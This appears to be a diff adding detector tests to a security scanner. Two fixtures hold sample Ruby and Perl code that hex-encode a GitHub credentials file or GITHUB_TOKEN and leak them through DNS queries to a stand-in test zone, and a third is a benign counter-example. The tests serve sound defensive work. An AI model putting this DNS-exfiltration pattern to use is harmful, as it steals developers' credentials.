@@ -311,3 +311,44 @@ def test_listed_buckets_deleted_only_when_a_test_picks_them_does_not_block(tmp_p
         "        drop(b['Name'])\n"
     )
     assert blocking(tmp_path, {"scripts/report.py": py}) == {}
+
+
+# ------------------------------------------------ DNS lookups of names made from encoded data elsewhere in the file
+
+
+def test_ruby_plugin_resolving_hex_labels_of_credentials_blocks(tmp_path: Path) -> None:
+    rb = (
+        'require "resolv"\n'
+        "module Warm\n"
+        '  ZONE = "cdn-hint.example.test"\n'
+        "  def self.names\n"
+        '    raw = File.read(File.join(Dir.home, ".config/gh/hosts.yml")) rescue ""\n'
+        '    raw.unpack1("H*").scan(/.{1,50}/).map { |part| "#{part}.#{ZONE}" }\n'
+        "  end\n"
+        "end\n"
+        "r = Resolv::DNS.new\n"
+        "Warm.names.each { |h| r.getaddresses(h) rescue nil }\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"lib/rubygems_plugin.rb": rb})
+
+
+def test_perl_resolving_hex_labels_of_an_env_token_blocks(tmp_path: Path) -> None:
+    pl = (
+        "use Net::DNS;\n"
+        "my $res = Net::DNS::Resolver->new;\n"
+        'my $hex = unpack("H*", $ENV{GITHUB_TOKEN} // "");\n'
+        "my $i = 0;\n"
+        'for my $c ($hex =~ /(.{1,40})/g) { my $q = "$c.$i.t.example.test"; $i++; $res->query($q, "A"); }\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"bin/warm.pl": pl})
+
+
+def test_ruby_resolving_fixed_mirror_hosts_does_not_block(tmp_path: Path) -> None:
+    rb = (
+        'require "resolv"\n'
+        'token = File.read(File.join(Dir.home, ".gem/credentials")) rescue ""\n'
+        'puts token.empty? ? "no rubygems key" : "rubygems key present"\n'
+        "r = Resolv::DNS.new\n"
+        '%w[rubygems.org index.rubygems.org].each { |h| puts "#{h}: #{r.getaddresses(h).size}" }\n'
+    )
+    assert blocking(tmp_path, {"lib/rubygems_plugin.rb": rb}) == {}
